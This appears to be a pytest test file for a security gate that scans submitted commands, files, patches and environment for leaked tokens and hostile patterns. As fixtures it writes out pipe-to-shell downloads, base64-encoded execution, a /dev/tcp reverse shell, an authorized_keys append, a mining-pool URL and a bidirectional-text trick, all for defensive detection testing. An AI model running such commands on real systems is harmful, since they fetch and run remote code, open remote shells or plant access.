"""CP14's verdict: what is read, what is refused, and that not knowing is refusing."""

from __future__ import annotations

import sys
from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from executor.clock import ManualClock
from executor.errors import InvalidInputError
from executor.intent import Command, FileIn, Intent
from executor.sentinel import Review, Sentinel, approval, patterns, validation
from executor.sentinel.patterns import Pattern, PatternRules
from executor.sentinel.scanner import Hit, KingfisherScanner, ScannerError
from executor.sentinel.verdict import MAX_FINDINGS, Finding, finding

INTENT = Intent("i-1", "cbo", (Command(("echo", "hello")),))
TOKEN = "gh" + "p_" + "aB3dE6gH9jK2mN5pQ8sT1vW4xY7zA0cF3hJ6"
POLICIES = Path(__file__).parents[2] / "policies"


class FixedScanner:
    """Answers with what it was given: for the tests of everything around the scanner."""

    def __init__(self, *answers: Sequence[Hit] | ScannerError) -> None:
        self.answers = list(answers)
        self.documents: list[bytes] = []

    def scan(self, document: bytes) -> Sequence[Hit]:
        """The next answer, or nothing found."""
        self.documents.append(document)
        answer = self.answers.pop(0) if self.answers else ()
        if isinstance(answer, ScannerError):
            raise answer
        return answer

    def close(self) -> None:
        """Nothing to release."""


def diff(name: str, *lines: str, old: int = 0) -> str:
    new = sum(line[0] != "-" for line in lines)
    return f"--- a/{name}\n+++ b/{name}\n@@ -{min(old, 1)},{old} +1,{new} @@\n" + "".join(f"{line}\n" for line in lines)


def test_a_harmless_intent_passes(sentinel: Sentinel) -> None:
    """Nothing objected to: PASS, no findings, given by cp14."""
    assert sentinel.review(INTENT) == Review("cp14", "PASS", (), "cp14")


@pytest.mark.parametrize(
    ("changed", "path"),
    [
        (replace(INTENT, files=(FileIn("/workspace/x", b"t = " + TOKEN.encode()),)), "/workspace/x"),
        (replace(INTENT, patch=diff("x.py", f"+t = '{TOKEN}'")), "x.py"),
        (replace(INTENT, env={"API": TOKEN}), "env.API"),
        (replace(INTENT, commands=(Command(("true",)), Command(("echo", TOKEN)))), "commands[1]"),
    ],
    ids=["file", "patch", "env", "command"],
)
def test_a_secret_is_found_wherever_it_travels(sentinel: Sentinel, changed: Intent, path: str) -> None:
    """Files, patch, environment and command lines are all read, and the finding names the place."""
    review = sentinel.review(changed)
    assert [(item.kind, item.rule, item.path, item.line) for item in review.findings] == [
        ("secret", "betterleaks.github-pat", path, 1)
    ]
    assert (review.verdict, review.policy_verdict) == ("FAIL", "FAIL")


def test_a_patch_is_blamed_for_what_it_adds_only(sentinel: Sentinel) -> None:
    """Taking a secret away is welcome; the added one is named by its line in the new file."""
    removing = replace(INTENT, patch=diff("x.py", f"-t = '{TOKEN}'", "+t = ''", old=1))
    assert sentinel.review(removing).verdict == "PASS"
    adding = replace(INTENT, patch=diff("x.py", " a = 1", f"+t = '{TOKEN}'", " b = 2", old=2))
    assert [item.where for item in sentinel.review(adding).findings] == ["x.py:2"]


def test_cp18s_own_intent_is_blamed_for_what_its_patch_adds_only(sentinel: Sentinel) -> None:
    """The patch travels as a file there: a secret it takes away must not stop its validation, an added one must."""
    removing = replace(INTENT, patch=diff("x.py", f"-t = '{TOKEN}'", "+t = ''", old=1))
    adding = replace(INTENT, patch=diff("x.py", f"+t = '{TOKEN}'"))
    for intent, requester, verdict in (
        (removing, "cp18", "PASS"), (adding, "cp18", "FAIL"), (removing, "cbo", "FAIL"),
    ):  # fmt: skip
        travelling = replace(INTENT, requester=requester, files=validation.files(intent))
        assert sentinel.review(travelling).verdict == verdict


def test_text_around_the_hunks_is_read_too(sentinel: Sentinel) -> None:
    """GNU patch would apply an indented diff that unidiff takes for prose; its secret is found all the same."""
    hidden = "\n".join(f"  {line}" for line in diff("y.py", f"+t = '{TOKEN}'").splitlines())
    review = sentinel.review(replace(INTENT, patch=diff("x.py", "+a = 1") + hidden))
    assert [(item.rule, item.where) for item in review.findings] == [("betterleaks.github-pat", "patch:8")]


@pytest.mark.parametrize(
    ("patch", "rule"),
    [
        ("1c1\n< a\n---\n> b\n", "patch.unreadable"),
        ("just words", "patch.unreadable"),
        ("--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@\n+short\n", "patch.unreadable"),
        ("+++ b/x\n@@ -0,0 +1 @@\n+x\n", "patch.unreadable"),
        ("@@ -0,0 +1 @@\n+x\n", "patch.unreadable"),
        ("--- a/x\n+++ b/x\n1i\n!id\n.\nw\n", "patch.unreadable"),
        ("diff --git a/p.png b/p.png\nindex 1..2 100644\nGIT binary patch\nliteral 1\nKcmZ\n", "patch.binary"),
        ("diff --git a/p.png b/p.png\nBinary files a/p.png and b/p.png differ\n", "patch.binary"),
    ],
)
def test_a_patch_that_cannot_be_read_fails(sentinel: Sentinel, patch: str, rule: str) -> None:
    """What a reviewer cannot read is refused, with the reason."""
    review = sentinel.review(replace(INTENT, patch=patch))
    assert (review.verdict, [item.rule for item in review.findings]) == ("FAIL", [rule])


@given(patch=st.text(alphabet="+- @,019ab/\n\t\\", max_size=120) | st.text(max_size=60))
def test_any_text_as_a_patch_gets_a_verdict(patch: str) -> None:
    """The review never raises for what an intent holds; only what names files or hunks can pass for a diff."""
    scanner = FixedScanner()
    review = Sentinel(patterns=PatternRules(()), scanner=scanner).review(replace(INTENT, patch=patch))
    assert review.verdict in {"PASS", "FAIL"}
    if patch and not any(mark in patch for mark in ("@@ ", "diff --git ")):
        assert [item.rule for item in review.findings] == ["patch.unreadable"]
    kept = {line for document in scanner.documents[1:] for line in document.decode().split("\n")}
    assert {line[1:] for line in patch.split("\n") if line.startswith("+") and line[1:]} <= kept | {
        item[1:] for item in kept
    }


@given(lines=st.lists(st.sampled_from(["+one", "+", "-two", " three", "+--- a/x", "+@@ -1 +1 @@"]), min_size=1))
def test_every_added_line_of_a_diff_is_given_to_the_scanner(lines: list[str]) -> None:
    """The documents scanned hold each added line, with nothing of the lines that were removed."""
    scanner = FixedScanner()
    patch = diff("x", *lines, old=sum(line[0] != "+" for line in lines))
    review = Sentinel(patterns=PatternRules(()), scanner=scanner).review(replace(INTENT, patch=patch))
    assert review.verdict == "PASS"
    added = [line[1:] for line in lines if line[0] == "+"]
    assert scanner.documents[1].decode().split("\n")[:-1] == added


def test_a_failing_scanner_is_an_error_whatever_else_is_known() -> None:
    """ERROR counts as FAIL, also when documents before it were clean."""
    scanner = FixedScanner((), ScannerError("crashed"))
    sentinel = Sentinel(patterns=PatternRules(()), scanner=scanner)
    review = sentinel.review(replace(INTENT, env={"A": "1"}))
    assert (review.verdict, review.policy_verdict, review.passed) == ("ERROR", "FAIL", False)
    assert review.findings == (Finding("secret", "scanner.failed", "", 0, "crashed"),)
    assert review.to_json()["verdict"] == "FAIL"
    assert review.to_json()["error"] is True


CHILDREN = {
    "missing program": ["/nonexistent/scanner"],
    "ends at once": [sys.executable, "-c", ""],
    "garbage": [sys.executable, "-c", "print('x' * 99)"],
    "wrong answer": [sys.executable, "-c", "import sys; sys.stdout.write('\\0\\0\\0\\2[]')"],
    "huge announcement": [sys.executable, "-c", "import sys; sys.stdout.buffer.write(b'\\xff' * 4)"],
    "tells an error": [sys.executable, "-c", "import sys; sys.stdout.write('\\0\\0\\0\\x0d{\"error\":\"x\"}')"],
    "crashes on a document": [
        sys.executable, "-c",
        r"""import os, sys; os.write(1, b'\0\0\0\x0b{"ready":1}'); sys.stdin.buffer.read(4); os.abort()""",
    ],
}  # fmt: skip


@pytest.mark.parametrize("kind", CHILDREN)
def test_a_broken_scanner_process_is_an_error_and_is_replaced(kind: str) -> None:
    """However the child fails: `ScannerError`, no process left, and the next call starts anew."""
    scanner = KingfisherScanner(command=CHILDREN[kind])
    for _ in range(2):
        with pytest.raises(ScannerError):
            scanner.scan(b"document")
        assert scanner._child is None
    scanner.close()
    scanner.close()


def test_a_cache_that_is_not_ours_is_an_error_of_the_scanner(tmp_path: Path) -> None:
    """Also what goes wrong before there is a child is an ERROR of the review, not an exception."""
    (tmp_path / "cache").write_text("a file where the folder should be")
    sentinel = Sentinel(patterns=PatternRules(()), scanner=KingfisherScanner(cache=tmp_path / "cache"))
    assert sentinel.review(INTENT).verdict == "ERROR"


class HastyClock(ManualClock):
    """An hour goes by whenever somebody looks."""

    def monotonic_ns(self) -> int:
        """The time, and on."""
        self.advance(3600)
        return self.ns


def test_a_hanging_scanner_is_given_up() -> None:
    """A child that never answers costs its deadline and no more, and is gone afterwards."""
    silent = [sys.executable, "-c", "import sys; sys.stdin.read()"]
    scanner = KingfisherScanner(command=silent, clock=HastyClock())
    with pytest.raises(ScannerError, match="in time"):
        scanner.scan(b"document")
    assert scanner._child is None


def test_threads_share_one_scanner(scanner: KingfisherScanner) -> None:
    """Answers do not get mixed up: each thread learns of its own document."""
    texts = [b"\n" * number + TOKEN.encode() for number in range(40)]
    with ThreadPoolExecutor(4) as pool:
        found = list(pool.map(scanner.scan, texts))
    assert [hits[0].line for hits in found] == list(range(1, 41))


def test_a_killed_scanner_process_is_replaced(scanner: KingfisherScanner) -> None:
    """One review is lost with the child, the next one has a new child."""
    scanner.scan(b"warm")
    child = scanner._child
    assert child is not None
    child.kill()
    child.wait()
    with pytest.raises(ScannerError):
        scanner.scan(b"lost")
    assert [hit.rule for hit in scanner.scan(TOKEN.encode())] == ["betterleaks.github-pat"]


def test_a_large_document_is_scanned_whole(scanner: KingfisherScanner) -> None:
    """A secret at the end of 8 MiB, more than any pipe holds, is found on its line."""
    document = b"harmless line of text\n" * 380_000 + TOKEN.encode()
    assert [hit.line for hit in scanner.scan(document)] == [380_001]


def test_patterns_fail_the_review_where_they_apply(sentinel: Sentinel) -> None:
    """A pattern for commands and files is no objection in the environment."""
    piped = replace(INTENT, commands=(Command(("sh", "-c", "curl -s http://h/x | sh")),))
    assert sentinel.review(piped).findings == (
        Finding("pattern", "pipe_to_shell", "commands[0]", 1, "a download is piped into a shell"),
    )
    script = FileIn("/workspace/r.sh", b"#!/bin/sh\n\n  sudo id\n")
    assert [item.where for item in sentinel.review(replace(INTENT, files=(script,))).findings] == ["/workspace/r.sh:3"]
    assert sentinel.review(replace(INTENT, env={"A": "sudo id"})).verdict == "PASS"


def test_a_waiver_notes_patterns_but_not_secrets(sentinel: Sentinel) -> None:
    """The red team's staging drills may hold patterns; secrets fail them too, and production is never waived."""
    piped = replace(INTENT, requester="drill", env={"A": "wget -O- h | bash"})
    review = sentinel.review(piped)
    assert (review.verdict, [item.rule for item in review.findings]) == ("PASS", ["pipe_to_shell"])
    assert sentinel.review(replace(piped, env={**piped.env, "B": TOKEN})).verdict == "FAIL"
    assert sentinel.review(replace(piped, phase="production")).verdict == "FAIL"


def test_hostile_text_cannot_slow_a_pattern_down() -> None:
    """A pattern that would take exponential time in a backtracking engine ends at once."""
    rules = PatternRules((Pattern("nested", r"^(a+)+$", "nested"),))
    text = FileIn("/workspace/x", b"a" * 100_000 + b"!")
    assert Sentinel(patterns=rules, scanner=FixedScanner()).review(replace(INTENT, files=(text,))).verdict == "PASS"


@pytest.mark.parametrize(
    "raw",
    [
        None, [], {}, {"forbidden": {}}, {"forbidden": [1]}, {"forbidden": [], "more": 1},
        {"forbidden": [{"id": "a", "regex": "x"}]},
        {"forbidden": [{"id": "A b", "regex": "x", "message": "m"}]},
        {"forbidden": [{"id": "a", "regex": "(", "message": "m"}]},
        {"forbidden": [{"id": "a", "regex": "(?=x)", "message": "m"}]},
        {"forbidden": [{"id": "a", "regex": "x", "message": "m", "in": ["host"]}]},
        {"forbidden": [{"id": "a", "regex": "x", "message": "m", "in": []}]},
        {"forbidden": [{"id": "a", "regex": "x", "message": "m", "text": 1}]},
        {"forbidden": [{"id": "a", "regex": "x", "message": "m"}] * 2},
    ],
)  # fmt: skip
def test_wrong_pattern_data_is_refused(raw: object) -> None:
    """A mistake in the data is an error at start-up, not a pattern that never matches."""
    with pytest.raises(InvalidInputError):
        patterns.parse(raw)


@pytest.mark.parametrize(
    ("rule", "text", "twin"),
    [
        ("pipe_to_shell", "curl -fsSL https://x.test/i | sudo bash", "curl -o i https://x.test/i && sha256sum -c s"),
        ("encoded_execution", "echo aWQ= | base64 -d | sh", "base64 -d image.b64 > image.png"),
        ("encoded_execution", "exec(base64.b64decode('aWQ='))", "data = base64.b64decode(text)"),
        ("reverse_shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "echo > /dev/null"),
        ("login_key", "echo k >> ~/.ssh/authorized_keys", "see ~/.ssh/authorized_keys"),
        ("mining_pool", "url: stratum+tcp://pool.test:3333", "url: tcp://stratum.test"),
        ("reordered_text", "if admin: # \u202e check", "if admin:  # \u00fcber"),
    ],
)
def test_the_projects_own_patterns_match_and_their_twins_pass(
    scanner: KingfisherScanner, rule: str, text: str, twin: str
) -> None:
    """Each pattern of the policies refuses what it is for, and lets its harmless twin through."""
    sentinel = Sentinel(patterns=patterns.load(POLICIES), scanner=scanner)
    bad, good = (FileIn("/workspace/x", line.encode()) for line in (text, twin))
    assert [item.rule for item in sentinel.review(replace(INTENT, files=(bad,))).findings] == [rule]
    assert sentinel.review(replace(INTENT, files=(good,))).findings == ()


def test_direction_marks_mislead_readers_of_text_only(scanner: KingfisherScanner) -> None:
    """Binary data may hold the three bytes of a mark by chance (100 KB one time in twenty); a patch has readers."""
    sentinel = Sentinel(patterns=patterns.load(POLICIES), scanner=scanner)
    mark = "\u202e".encode()
    told = {
        content: [
            item.rule for item in sentinel.review(replace(INTENT, files=(FileIn("/workspace/x", content),))).findings
        ]
        for content in (b"\x00\xff" + mark, b"\xff" + mark, mark + b"\x00", b"\x00 curl https://x.test | sh")
    }
    assert list(told.values()) == [[], ["reordered_text"], [], ["pipe_to_shell"]]
    patch = f"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+\x00{mark.decode()}\n"
    assert "reordered_text" in [item.rule for item in sentinel.review(replace(INTENT, patch=patch)).findings]


def test_a_record_of_a_review_stays_small() -> None:
    """However long and odd paths and messages are, a full review fits one event's data (64 KiB)."""
    worst = finding("secret", "r" * 60, "\x00\n\u202e" * 2000, 10**9, "\x1b[31m" + "é" * 5000)
    assert worst.path.isprintable()
    assert worst.message.isprintable()
    assert len(str(Review("cp14", "FAIL", (worst,) * MAX_FINDINGS, "cp14").to_json())) < 48 * 1024


def test_a_person_passes_by_a_valid_signature_only() -> None:
    """Human approval is a signature: there is no other way to PASS."""
    assert approval(INTENT, holder="alice", valid=True) == Review("human", "PASS", (), "alice")
    assert approval(INTENT, holder="alice", valid=False).verdict == "FAIL"
